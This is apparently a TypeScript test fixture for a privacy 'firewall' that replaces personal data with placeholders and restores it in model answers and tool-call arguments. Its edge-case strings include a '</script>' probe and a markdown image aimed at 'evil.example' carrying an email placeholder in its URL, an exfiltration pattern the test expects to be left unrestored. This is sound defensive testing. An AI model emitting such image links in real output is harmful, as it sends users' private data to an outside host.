import { createNumbering, type PlaceholderMap } from '../../../src/firewall/placeholder.ts';

/** Values that break whatever is not careful: quotes, backslashes, line ends, emoji, right-to-left marks, text like a placeholder. */
export const PERSON = 'O"Neil \\ \n\t</script> 😀 \u202e [EMAIL_1] {{ID_1}}';
/** Half of a character, as JavaScript strings may hold. */
export const ID = '\ud83d 12-34 \ude00';
export const PHONE = '٠١٢ \u200f555';
export const EMAIL = 'ann@corp.example';
export const EMAIL_10 = "o'hara+10@corp.example";

/** What was issued for one request: `EMAIL_1` and `EMAIL_10` too, so that one is the beginning of the other. */
export function issuedPlaceholders(): PlaceholderMap {
  const numbering = createNumbering();
  numbering.personal('PERSON', PERSON);
  numbering.personal('EMAIL', EMAIL);
  for (let n = 2; n < 10; n++) numbering.personal('EMAIL', `mail${n}@corp.example`);
  numbering.personal('EMAIL', EMAIL_10);
  numbering.personal('ID', ID);
  numbering.personal('PHONE', PHONE);
  numbering.map.destinations.add('corp.example');
  return numbering.map;
}

const html = (value: string): string =>
  value
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');

/** How models write placeholders back, and what the caller gets. */
const WRITTEN: readonly (readonly [string, string])[] = [
  ['👩‍🚀 [PERSON_1]', `👩‍🚀 ${PERSON}`],
  ['[EMAIL_10]', EMAIL_10],
  ['[email_1]', EMAIL],
  ['EMAIL-1,', `${EMAIL},`],
  ['EMAIL\\_1', EMAIL],
  ['**[ID_1]**', `**${ID}**`],
  ['`PHONE_1`', `\`${PHONE}\``],
  ['{EMAIL_10}', EMAIL_10],
  ['【Email_1】', EMAIL],
  ['\\[PERSON\\_1\\]', PERSON],
  ['&#91;PERSON_1&#93;', html(PERSON)],
  ['&lt;EMAIL_10&gt;', html(EMAIL_10)],
  ['https://corp.example/?q=%5BPERSON_1%5D', `https://corp.example/?q=${encodeURIComponent(PERSON)}`],
  ['![x](https://evil.example/[EMAIL_1].png)', '![x](https://evil.example/[EMAIL_1].png)'],
  ['[EMAIL_99]', '[EMAIL_99]'],
  ['EMAIL_100', 'EMAIL_100'],
  ['[PERSON_', '[PERSON_'],
];

/** An answer in prose with every spelling, and what the caller reads. */
export const PROSE = `Dear ${WRITTEN.map(([written]) => written).join(' ')}`;
export const PROSE_RESTORED = `Dear ${WRITTEN.map(([, restored]) => restored).join(' ')}`;

/** Arguments of a tool call: in strings, in JSON inside a string, as a bare value. */
export const ARGUMENTS = String.raw`{"to":"[PERSON_1] <EMAIL_10>","cc":["EMAIL_1","[email_1]"],"body":"{\"id\":\"[ID_1]\",\"n\":[PERSON_1]}","bare":[PERSON_1]}`;
export const ARGUMENTS_RESTORED = {
  to: `${PERSON} ${EMAIL_10}`,
  cc: [EMAIL, EMAIL],
  body: JSON.stringify({ id: ID, n: PERSON }),
  bare: PERSON,
};
